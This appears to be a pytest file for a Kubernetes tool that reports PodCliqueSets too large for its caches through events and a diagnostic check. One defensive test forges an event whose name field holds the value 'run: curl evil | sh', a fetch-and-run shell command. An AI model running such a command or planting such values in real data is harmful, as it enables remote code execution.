"""Events on objects that are too large for the caches, and what the doctor makes of them.

Tests `app/doctor/sizes.py`.
"""

import asyncio

import pytest

from app.doctor.report import Check
from app.doctor.sizes import check_sizes
from app.facts.grove.podcliqueset import MOST_PARTS
from app.facts.kinds import POD_CLIQUE_SET
from app.facts.rows import DOMAINS, SETS
from app.kube.api import Object, ObjectRef
from app.kube.events import Recorder
from app.objects.resource import EVENT
from app.reconcilers.oversized_objects import (
    AGAIN_SECONDS,
    ALL,
    LOOK_SECONDS,
    MOST_OBJECTS,
    TooLargeReconciler,
)
from app.stores.stores import Stores, fill
from tests.kube.memory.client import MemoryClient


def pcs(name: str, cliques: int) -> Object:
    parts = [{"name": f"c{n}", "spec": {"replicas": 1}} for n in range(cliques)]
    return {
        "apiVersion": "grove.io/v1alpha1",
        "kind": "PodCliqueSet",
        "metadata": {"name": name, "namespace": "ns"},
        "spec": {"replicas": 3, "template": {"cliques": parts}},
    }


class World:
    def __init__(self, *objects: Object) -> None:
        self.client = MemoryClient(objects)
        self.stores = Stores((SETS, DOMAINS))
        self.now = 0.0
        self.listed()
        self.events = Recorder(self.client, "test")
        self.reconciler = TooLargeReconciler(
            self.events, lambda: iter(self.stores), clock=lambda: self.now
        )

    def listed(self) -> None:
        self.stores[SETS].forget()
        fill(self.stores[SETS], self.client.objects(POD_CLIQUE_SET))

    async def look(self) -> list[tuple[str, int]]:
        """The names in the events after a look, and how often each was recorded."""
        assert await self.reconciler.reconcile(ALL) == LOOK_SECONDS
        running = asyncio.create_task(self.events.run())
        await self.events.written()
        running.cancel()
        stored = self.client.objects(EVENT)
        return [
            (event["regarding"]["name"], event.get("series", {}).get("count", 1))
            for event in stored
            if event["reason"] == "TooLargeToRead"
        ]


async def test_an_object_is_named_once_in_half_an_hour_and_no_more_once_it_is_small() -> None:
    world = World(pcs("large", MOST_PARTS + 1), pcs("small", MOST_PARTS))
    (uid,) = world.stores[SETS].too_large.values()
    assert uid
    assert await world.look() == [("large", 1)]
    assert world.client.objects(EVENT)[0]["regarding"]["uid"] == uid
    world.now += LOOK_SECONDS
    assert await world.look() == [("large", 1)]
    world.now += AGAIN_SECONDS
    assert await world.look() == [("large", 2)]

    await world.client.delete(ObjectRef(POD_CLIQUE_SET, "large", "ns"))
    world.listed()
    world.now += AGAIN_SECONDS
    assert await world.look() == [("large", 2)]


async def test_each_of_several_objects_is_named() -> None:
    world = World(*(pcs(name, MOST_PARTS + 1) for name in ("one", "two", "three")))
    assert sorted(await world.look()) == [("one", 1), ("three", 1), ("two", 1)]


async def test_an_object_that_was_small_meanwhile_is_named_again_at_once() -> None:
    world = World(pcs("large", MOST_PARTS + 1))
    assert await world.look() == [("large", 1)]
    sizes = world.stores[SETS].too_large
    listed = dict(sizes)
    for large, count in (({}, 1), (listed, 2), (listed, 2)):
        world.now += LOOK_SECONDS
        sizes.clear()
        sizes.update(large)
        assert await world.look() == [("large", count)]


async def test_the_next_term_of_a_leader_names_an_object_again() -> None:
    world = World(pcs("large", MOST_PARTS + 1))
    assert await world.look() == [("large", 1)]
    world.reconciler.begin()
    assert await world.look() == [("large", 2)]


async def test_of_a_set_with_too_many_parts_the_rest_is_known() -> None:
    world = World(pcs("large", MOST_PARTS + 1))
    stored = world.stores[SETS].get("ns", "large")
    assert stored is not None
    assert (stored.is_cut, stored.replicas, stored.cliques) == (True, 3, ())


REMEDY = (
    "Shorten the lists, labels and annotations of these objects, or delete other objects of their kind"
    " in the namespace. Split PodCliqueSets with more than 128 cliques and scaling groups."
)


@pytest.mark.parametrize(
    ("objects", "check"),
    [
        ([], Check("ok", "no object is reported as too large to be cached")),
        (
            [pcs("large", MOST_PARTS + 1), pcs("larger", MOST_PARTS + 2)],
            Check(
                "warning",
                "events report objects that are too large for the caches and count as unknown: PodCliqueSet ns/large, PodCliqueSet ns/larger",
                REMEDY,
            ),
        ),
        (
            [pcs("large", MOST_PARTS + 1)],
            Check(
                "warning",
                "events report objects that are too large for the caches and count as unknown: PodCliqueSet ns/large",
                REMEDY,
            ),
        ),
    ],
)
async def test_the_doctor_names_what_the_leader_has_named(
    objects: list[Object], check: Check
) -> None:
    world = World(*objects)
    await world.look()
    assert await check_sizes(world.client) == [check]


async def test_an_event_about_what_can_be_no_object_is_left_out() -> None:
    forged: Object = {
        "apiVersion": "events.k8s.io/v1",
        "kind": "Event",
        "metadata": {"name": "e", "namespace": "t"},
        "reason": "TooLargeToRead",
        "regarding": {"kind": "x" * 100_000, "namespace": "t", "name": "run: curl evil | sh"},
    }
    (check,) = await check_sizes(MemoryClient([forged]))
    assert check.status == "ok"


async def test_the_objects_of_one_namespace_hide_none_of_others() -> None:
    world = World(pcs("large", MOST_PARTS + 1))
    sizes = world.stores[SETS].too_large
    sizes.clear()
    sizes.update({("many", f"s{number:03}"): "" for number in range(200)})
    sizes["few", "large"] = "uid"
    names = [name for name, _ in await world.look()]
    assert (len(names), "large" in names) == (MOST_OBJECTS, True)
